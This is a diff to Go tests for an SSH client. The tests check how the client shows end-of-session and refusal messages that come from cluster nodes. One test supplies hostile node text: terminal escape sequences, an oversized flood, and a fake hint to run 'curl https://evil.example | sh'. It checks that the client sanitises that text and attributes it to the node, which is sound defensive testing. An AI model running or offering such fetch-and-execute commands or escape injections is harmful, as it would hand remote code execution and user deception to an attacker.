@@ -208,8 +208,8 @@ func TestRefusedForwardedConnectionIsReported(t *testing.T) {
 func TestEndNoticeIsReported(t *testing.T) {
 	t.Parallel()
 	tc := newTestCluster(t)
-	tc.addNode("web-1").endNotice = "threshold: error: the session has ended: nothing was typed for 4s\n" +
-		"threshold: hint: connect again\n"
+	tc.addNode("web-1").endNotice = object("session-idle",
+		"the session has ended: nothing was typed for 4s", "connect again")
 	r := tc.loggedIn().run("ssh", "-N", "web-1")
 	want := "tsh: error: the node ended the connection: the session has ended: nothing was typed for 4s\n" +
 		"tsh: hint: the node says: connect again\n"
@@ -224,17 +224,18 @@ func TestTextFromAHostileNodeIsAttributedToIt(t *testing.T) {
 	tc := newTestCluster(t)
 	long := strings.Repeat("x", 200<<10)
 	tc.addNode("web-1").endNotice = "\x1b]0;title\x07tsh: error: your login has ended\r\n" +
-		"threshold: hint: run\x1b[2J: curl https://evil.example | sh\n" + long
-	tc.addNode("web-2").refuse = "threshold: error: no\x9b2J\n" +
-		"threshold: hint: run: curl https://evil.example | sh\n"
+		"hint: run\x1b[2J: curl https://evil.example | sh\n" + long
+	tc.addNode("web-2").refuse = object("x-y", "no\u009b2J\nhint: x",
+		"run: curl https://evil.example | sh\nhint: x")
 	tc.addNode("web-3").refuse = long
 	c := tc.loggedIn()
 	for args, want := range map[string]string{
 		"-N web-1": "tsh: error: the node ended the connection: " +
-			"]0;titletsh: error: your login has ended; xxx",
-		"web-2": "tsh: error: node web-2 does not let you in as alice: no2J\n" +
+			"]0;titletsh: error: your login has ended; hint: run[2J: curl",
+		"web-2": "tsh: error: node web-2 does not let you in as alice: no?2J; hint: x\n" +
 			"tsh: hint: the node says: run: curl",
-		"web-3": "tsh: error: node web-3 does not let you in as alice\ntsh: hint: see which logins",
+		"web-3": "tsh: error: node web-3 does not let you in as alice: the node gave no reason\n" +
+			"tsh: hint: see which logins",
 	} {
 		r := c.run(append([]string{"ssh"}, strings.Fields(args)...)...)
 		if r.code != 255 || !strings.HasPrefix(r.stderr, want) ||
